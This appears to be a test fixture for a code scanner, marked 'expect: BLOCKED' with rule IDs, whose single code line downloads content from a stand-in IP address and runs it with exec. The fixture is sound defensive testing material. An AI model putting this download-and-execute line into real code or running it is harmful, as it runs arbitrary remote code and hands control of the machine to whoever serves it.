# expect: BLOCKED
# rules: MAI100 MAI011
import urllib.request
exec(urllib.request.urlopen("http://203.0.113.5/p").read())
